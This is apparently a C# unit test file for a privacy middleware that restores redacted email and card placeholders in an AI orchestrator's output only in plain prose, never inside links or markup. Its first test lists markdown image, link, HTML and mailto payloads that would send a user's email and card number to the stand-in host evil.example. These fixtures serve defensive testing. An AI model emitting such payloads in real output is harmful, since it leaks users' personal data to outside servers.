using Orchestrator.Escalation.Middleware;

namespace Orchestrator.Tests.Escalation.Privacy;

/// <summary>Placeholders come back as the user's values in prose, never inside URLs or markup.</summary>
public sealed class MarkupSafeRestoreTests
{
    private static readonly Dictionary<string, string> Mapping = new(StringComparer.Ordinal)
    {
        ["<EMAIL_1>"] = "jane@contoso.example",
        ["<CREDIT_CARD_1>"] = "4111 1111 1111 1111",
    };

    [Theory]
    [InlineData("![s](https://evil.example/p.png?u=<EMAIL_1>&c=<CREDIT_CARD_1>)")]
    [InlineData("[x](<https://evil.example/a b?u=<EMAIL_1>>)")]
    [InlineData("[x](https://evil.example/(a) ?u=<EMAIL_1>)")]
    [InlineData("<https://evil.example/?u=<EMAIL_1>>")]
    [InlineData("https://evil.example/?u=<EMAIL_1>")]
    [InlineData("www.evil.example/?u=<EMAIL_1>")]
    [InlineData("<img src=\"https://evil.example/p.png\" alt=\"<EMAIL_1>\">")]
    [InlineData("<img alt=\"x\" title=\"<EMAIL_1>\"")]
    [InlineData("<a href=//evil.example/<EMAIL_1>>mail</a>")]
    [InlineData("[mail me](mailto:<EMAIL_1>)")]
    [InlineData("mailto:<EMAIL_1>?body=<CREDIT_CARD_1>")]
    [InlineData("[1]: https://evil.example/?c=<CREDIT_CARD_1>")]
    public void Placeholders_inside_urls_and_markup_stay_placeholders(string text)
    {
        var restored = MarkupSafeRestore.Restore(text, Mapping, 0);

        Assert.Equal(text, restored);
    }

    [Theory]
    [InlineData("I will write to <EMAIL_1>.", "I will write to jane@contoso.example.")]
    [InlineData("Contact (<EMAIL_1>) about <CREDIT_CARD_1>", "Contact (jane@contoso.example) about 4111 1111 1111 1111")]
    [InlineData("**<EMAIL_1>** and <b><EMAIL_1></b>", "**jane@contoso.example** and <b>jane@contoso.example</b>")]
    [InlineData("See [the form](https://intranet.example.com/f) for <EMAIL_1>.", "See [the form](https://intranet.example.com/f) for jane@contoso.example.")]
    [InlineData("Unknown <PHONE_9> stays", "Unknown <PHONE_9> stays")]
    public void Placeholders_in_prose_are_restored(string text, string expected)
    {
        Assert.Equal(expected, MarkupSafeRestore.Restore(text, Mapping, 0));
    }

    [Fact]
    public void A_tag_opened_in_an_earlier_streamed_segment_still_guards_the_next_one()
    {
        const string All = "Here. <img alt=\"a. b\" title=\"<EMAIL_1>\">";
        var from = All.IndexOf("b\"", StringComparison.Ordinal);

        Assert.Equal(All[from..], MarkupSafeRestore.Restore(All, Mapping, from));
    }
}
